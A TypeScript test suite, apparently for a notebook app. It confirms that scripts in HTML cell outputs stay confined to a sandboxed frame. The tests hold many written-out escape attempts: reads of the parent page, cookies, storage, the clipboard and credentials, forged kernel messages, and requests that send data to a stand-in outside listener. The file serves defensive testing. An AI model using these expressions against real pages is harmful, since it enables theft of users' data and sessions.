/**
 * The written list of what an HTML output may try, and what comes of each: SECURITY.md repeats it. Each attempt runs as a
 * script of an output, in the frame and under the policies that the product gives it. Two listeners stand outside: a bare
 * TCP port that is nobody's, which hears every connection, and the page's own server.
 */
import { type AddressInfo, createServer, type Server } from "node:net";
import type { Browser, Page } from "@playwright/test";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import {
  applicationStyle,
  type KernelServer,
  launchBrowser,
  pageScript,
  serveKernel,
} from "#test/support/kernel-page.ts";

let browser: Browser;
let server: KernelServer;
let outside: Server;
let port: number;
let page: Page;
/** Connections that reached the port outside. */
let reached = 0;
/** Connections over which something was said. */
let asked = 0;
const dialogs: string[] = [];
const popups: string[] = [];
const downloads: string[] = [];

const gallery = `
import { createRoot } from "react-dom/client";
import * as Y from "yjs";
import { CellOutputs } from "#components/notebook/output/index.ts";
import { createBrowserKernel } from "#components/kernel/index.ts";
import { createOutput } from "#lib/notebook/cell.ts";
const doc = new Y.Doc();
const root = createRoot(document.querySelector("main"));
let count = 0;
window.heard = [];
window.addEventListener("message", ({ data }) => window.heard.push(data));
window.kernel = createBrowserKernel({ device: "cpu", raise: () => 0 });
window.show = (html) => {
  const list = doc.getArray("outputs" + count++);
  list.push([createOutput({ output_type: "display_data", data: { "text/html": html }, metadata: {} })]);
  root.render(<div style={{ width: "40rem", padding: 24 }}><input id="mine" aria-label="Mine" /><CellOutputs key={count} outputs={list} notebookId="n1" cellId="a" /></div>);
};
`;

beforeAll(async () => {
  server = await serveKernel(await pageScript(gallery), await applicationStyle());
  outside = createServer((socket) => {
    reached += 1;
    socket.on("error", () => undefined);
    socket.once("data", () => {
      asked += 1;
    });
    socket.end("HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
  });
  await new Promise<void>((resolve) => outside.listen(0, "127.0.0.1", resolve));
  port = (outside.address() as AddressInfo).port;
  browser = await launchBrowser();
  const context = await browser.newContext({ viewport: { width: 900, height: 700 }, acceptDownloads: true });
  context.setDefaultTimeout(10_000);
  page = await context.newPage();
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("popup", (popup) => void popups.push(popup.url()));
  page.on("download", (download) => void downloads.push(download.url()));
  await page.goto(server.base);
});
afterAll(async () => {
  await browser.close();
  await server.stop();
  outside.close();
});
beforeEach(() => {
  reached = 0;
  asked = 0;
  server.requests.length = 0;
});

const frame = () => page.frameLocator(".out-frame");

/** Shows an output whose script evaluates an expression; answers what it came to. `OUT` is the address outside. */
async function attempt(expression: string, markup = ""): Promise<string> {
  const script = `(async () => {
    let told;
    try { told = String(await Promise.race([(async () => (${expression}))(), new Promise((go) => setTimeout(go, 1500, "no answer"))])); }
    catch (error) { told = "refused: " + (error?.name ?? error); }
    const place = document.createElement("p"); place.id = "told"; place.textContent = told; document.body.append(place);
  })()`;
  const html = `${markup}<script>${script.replaceAll("OUT", `http://127.0.0.1:${port}`)}</script>`;
  await page.evaluate((given) => (window as unknown as { show(html: string): void }).show(given), html);
  return (await frame().locator("#told").textContent()) ?? "";
}

const refused = /^refused: |^no answer$/;

describe("the page around it", () => {
  it.each([
    ["its document", "parent.document.title", /^refused: SecurityError/],
    ["its variables", "parent.kernel", /^refused: SecurityError/],
    ["its address", "parent.location.href", /^refused: SecurityError/],
    ["the frame it stands in", "frameElement", /^null$|^refused/],
    ["the top window's place", "(top.location = 'OUT/top', 1)", /^refused: SecurityError/],
    ["the top window's place, replaced", "top.location.replace('OUT/top')", /^refused: SecurityError/],
    ["other frames' documents", "parent.frames[0].document.title + parent.frames[1].document", refused],
    ["a popup", "String(open('OUT/popup'))", /^null$/],
    ["a message box", "(alert('x'), confirm('x'), prompt('x'), print(), 'none')", /^none$/],
    ["the whole screen", "document.documentElement.requestFullscreen()", /^refused: TypeError|^no answer/],
    ["the pointer", "document.body.requestPointerLock()", refused],
    ["a picture in a picture", "documentPictureInPicture.requestWindow()", refused],
    [
      "a download",
      "(Object.assign(document.createElement('a'), { href: 'data:text/plain,x', download: 'x.txt' }).click(), 'clicked')",
      /^clicked$/,
    ],
  ])("%s is out of reach", async (_what, expression, answer) => {
    expect(await attempt(expression)).toMatch(answer);
    expect([dialogs, popups, downloads, reached]).toEqual([[], [], [], 0]);
    expect(page.url()).toBe(`${server.base}/`);
  });

  it("cannot be covered: what is fixed, huge or on top ends at the frame", async () => {
    await attempt(
      "1",
      '<div style="position:fixed;inset:-5000px;background:red;z-index:2147483647"></div><div style="height:90000px;width:90000px"></div>',
    );
    await page.waitForFunction(() => (document.querySelector(".out-frame")?.getBoundingClientRect().height ?? 0) > 100);
    const box = await page.locator(".out-frame").boundingBox();
    expect(box?.width).toBeLessThanOrEqual(640);
    expect(box?.height).toBeLessThanOrEqual(1200);
    await page.locator("#mine").click();
    expect(await page.evaluate(() => document.activeElement?.id)).toBe("mine");
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(900);
  });

  it("keeps what somebody types: the focus is not taken without a click", async () => {
    await attempt("1");
    await page.locator("#mine").focus();
    await attempt(
      "(() => { const field = document.createElement('input'); field.autofocus = true; document.body.append(field); window.focus(); field.focus(); return 'tried' })()",
    );
    await page.evaluate(() => document.querySelector<HTMLElement>("#mine")?.focus());
    await page.keyboard.type("secret");
    expect(await page.inputValue("#mine")).toBe("secret");
  });

  it("goes on while a script of the output never ends", async () => {
    await page.evaluate(
      (given) => (window as unknown as { show(html: string): void }).show(given),
      "<script>setTimeout(() => { for (;;); }, 50)</script>",
    );
    await page.waitForFunction(() => document.querySelector(".out-frame") !== null);
    await page.locator("#mine").fill("still here");
    expect(await page.inputValue("#mine")).toBe("still here");
  });

  it("is not drowned in messages: an output that floods it is taken away", async () => {
    await page.evaluate(
      (given) => (window as unknown as { show(html: string): void }).show(given),
      "<script>setInterval(() => { for (let n = 0; n < 500; n++) parent.postMessage({ type: 'height', height: n }, '*') }, 1)</script>",
    );
    await page.getByText("This output sent the page more than it may").waitFor();
    expect(await page.locator(".out-frame").count()).toBe(0);
    await attempt("1");
  });

  it("believes no message that pretends to come from a kernel", async () => {
    const phase = () =>
      page.evaluate(
        () => (window as unknown as { kernel: { state: { get(): { phase: string } } } }).kernel.state.get().phase,
      );
    await page.evaluate(() => (window as unknown as { kernel: { start(): void } }).kernel.start());
    await expect.poll(phase, { timeout: 20_000 }).toBe("ready");
    await attempt(`(() => {
      const { port1, port2 } = new MessageChannel();
      for (const type of ["frame-ready", "ready", "worker-failed", "events", "request", "show", "failed", "device"])
        parent.postMessage({ type, message: "x", device: { kind: "cpu", name: "forged", reasons: [] }, executionId: "x", requestId: 1, request: { kind: "secret", name: "KEY" } }, "*");
      parent.postMessage({ type: "frame-ready" }, "*", [port2]);
      for (let at = 0; at < parent.length; at++) parent[at].postMessage({ type: "run" }, "*");
      return "sent";
    })()`);
    expect(await phase()).toBe("ready");
    expect(
      await page.evaluate(
        () =>
          (window as unknown as { kernel: { state: { get(): { device: { name: string } } } } }).kernel.state.get()
            .device.name,
      ),
    ).not.toBe("forged");
  });
});

describe("storage and the person's things", () => {
  it.each([
    ["cookies", "document.cookie", /^refused: SecurityError/],
    ["cookies set", "(document.cookie = 'a=b')", /^refused: SecurityError/],
    ["the cookie store", "cookieStore.getAll()", refused],
    ["local storage", "localStorage.length", /^refused: SecurityError/],
    ["session storage", "sessionStorage.length", /^refused: SecurityError/],
    [
      "indexedDB",
      "new Promise((yes, no) => { const asked = indexedDB.open('x'); asked.onsuccess = yes; asked.onerror = () => no(asked.error) })",
      refused,
    ],
    ["caches", "caches.keys()", refused],
    ["the file system", "navigator.storage.getDirectory()", refused],
    ["locks", "navigator.locks.request('x', () => 1)", refused],
    ["a service worker", "navigator.serviceWorker.register('/assets/sw.js')", refused],
    [
      "a shared worker",
      "new Promise((yes, no) => { const worker = new SharedWorker('data:text/javascript,onconnect=e=>e.ports[0].postMessage(1)'); worker.onerror = no; worker.port.onmessage = yes; })",
      refused,
    ],
    [
      "a worker",
      "new Promise((yes, no) => { const worker = new Worker('data:text/javascript,postMessage(1)'); worker.onerror = no; worker.onmessage = yes; })",
      refused,
    ],
    ["the clipboard, read", "navigator.clipboard.readText()", /^refused: NotAllowedError/],
    ["the clipboard, written", "navigator.clipboard.writeText('x')", /^refused: NotAllowedError/],
    ["the clipboard, the old way", "document.execCommand('copy') || document.execCommand('paste')", /^false$/],
    [
      "where they are",
      "new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, (why) => no(new Error(why.message))))",
      refused,
    ],
    ["camera and microphone", "navigator.mediaDevices.getUserMedia({ video: true, audio: true })", refused],
    ["the screen", "navigator.mediaDevices.getDisplayMedia()", refused],
    ["devices", "navigator.usb.getDevices()", refused],
    ["notifications", "Notification.requestPermission()", /^denied$|^refused/],
    [
      "credentials",
      "navigator.credentials.get({ password: true, publicKey: { challenge: new Uint8Array(16) } })",
      refused,
    ],
  ])("%s: nothing", async (_what, expression, answer) => {
    expect(await attempt(expression)).toMatch(answer);
  });

  it("a channel between pages of the origin reaches nobody", async () => {
    const heard = page.evaluate(
      () =>
        new Promise<boolean>((resolve) => {
          const channel = new BroadcastChannel("octavo");
          channel.onmessage = () => resolve(true);
          setTimeout(() => resolve(false), 700);
        }),
    );
    await attempt("new BroadcastChannel('octavo').postMessage('hello')");
    expect(await heard).toBe(false);
  });

  it("WebAssembly and evaluated text do not run in it", async () => {
    expect(await attempt("eval('1 + 1')")).toMatch(/^refused: EvalError/);
    expect(await attempt("new Function('return 1')()")).toMatch(/^refused: EvalError/);
    expect(await attempt("WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))")).toMatch(
      /^refused: CompileError/,
    );
  });
});

const loaded = (tag: string, attributes: string) =>
  `new Promise((yes, no) => { const made = Object.assign(document.createElement("${tag}"), ${attributes}); made.onload = yes; made.onerror = () => no(new Error()); document.head.append(made); })`;

describe("the network", () => {
  it.each([
    ["fetch", "fetch('OUT/x', { mode: 'no-cors' })"],
    [
      "a request",
      "new Promise((yes, no) => { const asked = new XMLHttpRequest(); asked.open('GET', 'OUT/x'); asked.onload = yes; asked.onerror = () => no(new Error()); asked.send() })",
    ],
    ["a beacon", "navigator.sendBeacon('OUT/x', 'x') && new Promise((go) => setTimeout(go, 300, 'no answer'))"],
    [
      "a request for later",
      "fetchLater('OUT/x', { activateAfter: 0 }) && new Promise((go) => setTimeout(go, 300, 'no answer'))",
    ],
    [
      "a socket",
      "new Promise((yes, no) => { const socket = new WebSocket('OUT/x'.replace('http', 'ws')); socket.onopen = yes; socket.onerror = () => no(new Error()) })",
    ],
    [
      "an event stream",
      "new Promise((yes, no) => { const source = new EventSource('OUT/x'); source.onopen = yes; source.onerror = () => no(new Error()) })",
    ],
    ["WebTransport", "new WebTransport('OUT/x'.replace('http', 'https')).ready"],
    [
      "a peer connection",
      "(async () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + 'OUT'.slice(7) }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); await new Promise((go) => setTimeout(go, 300)); throw new Error() })()",
    ],
    ["an import", "import('OUT/x.js')"],
    ["an image", loaded("img", "{ src: 'OUT/x.png' }")],
    ["a script", loaded("script", "{ src: 'OUT/x.js' }")],
    ["a style sheet", loaded("link", "{ rel: 'stylesheet', href: 'OUT/x.css' }")],
    ["a preload", loaded("link", "{ rel: 'preload', as: 'image', href: 'OUT/x' }")],
    ["a module preload", loaded("link", "{ rel: 'modulepreload', href: 'OUT/x.js' }")],
    ["a prefetch", loaded("link", "{ rel: 'prefetch', href: 'OUT/x' }")],
    ["an icon", loaded("link", "{ rel: 'icon', href: 'OUT/x.ico' }")],
    ["a manifest", loaded("link", "{ rel: 'manifest', href: 'OUT/x.json' }")],
    [
      "speculation",
      `(document.head.append(Object.assign(document.createElement("script"), { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: ["OUT/x"] }], prerender: [{ source: "list", urls: ["OUT/y"] }] }) })), new Promise((go) => setTimeout(go, 500, "no answer")))`,
    ],
    [
      "a film",
      "new Promise((yes, no) => { const film = Object.assign(document.createElement('video'), { src: 'OUT/x.mp4' }); film.oncanplay = yes; film.onerror = () => no(new Error()); film.load() })",
    ],
    [
      "an object",
      "new Promise((yes, no) => { const made = Object.assign(document.createElement('object'), { data: 'OUT/x' }); made.onload = yes; made.onerror = () => no(new Error()); document.body.append(made); setTimeout(() => no(new Error()), 400) })",
    ],
    [
      "a frame with a document of its own",
      `(document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: "<img src=OUT/x><script>fetch('OUT/y')<\\/script>" })), new Promise((go) => setTimeout(go, 400, "no answer")))`,
    ],
    ["a font", "new FontFace('x', 'url(OUT/x.woff2)').load()"],
    [
      "a background",
      "(document.body.style.background = 'url(OUT/x)', new Promise((go) => setTimeout(go, 400, 'no answer')))",
    ],
    [
      "a form",
      "(() => { const form = Object.assign(document.createElement('form'), { action: 'OUT/x', method: 'post' }); document.body.append(form); form.submit(); return new Promise((go) => setTimeout(go, 400, 'no answer')) })()",
    ],
    [
      "a ping",
      "(() => { const link = Object.assign(document.createElement('a'), { href: '#x', ping: 'OUT/x' }); document.body.append(link); link.click(); return new Promise((go) => setTimeout(go, 400, 'no answer')) })()",
    ],
  ])("%s gets nowhere", async (_what, expression) => {
    expect(await attempt(expression)).toMatch(refused);
    await page.waitForTimeout(700);
    expect([reached, server.requests]).toEqual([0, []]);
  });

  // A navigation is refused before anything is said; Chromium may have opened the connection by then.
  it.each([
    [
      "a frame inside",
      "(document.body.append(Object.assign(document.createElement('iframe'), { src: 'OUT/x?secret' })), 'no answer')",
    ],
    ["its own place", "(setTimeout(() => { location.href = 'OUT/x?secret' }, 300), 'no answer')"],
    [
      "a link clicked by script",
      "(setTimeout(() => { const link = Object.assign(document.createElement('a'), { href: 'OUT/x' }); document.body.append(link); link.click() }, 300), 'no answer')",
    ],
    [
      "a refresh",
      "(setTimeout(() => document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=OUT/x' })), 300), 'no answer')",
    ],
  ])("%s says nothing to anybody", async (_what, expression) => {
    expect(await attempt(expression)).toMatch(refused);
    await page.waitForTimeout(700);
    expect([asked, server.requests]).toEqual([0, []]);
  });

  it("no connection is made ahead", async () => {
    const link = (rel: string) =>
      `document.head.append(Object.assign(document.createElement("link"), { rel: "${rel}", href: "OUT" }))`;
    await attempt(`(${link("preconnect")}, ${link("dns-prefetch")}, "no answer")`);
    await page.waitForTimeout(700);
    expect(reached).toBe(0);
  });
});
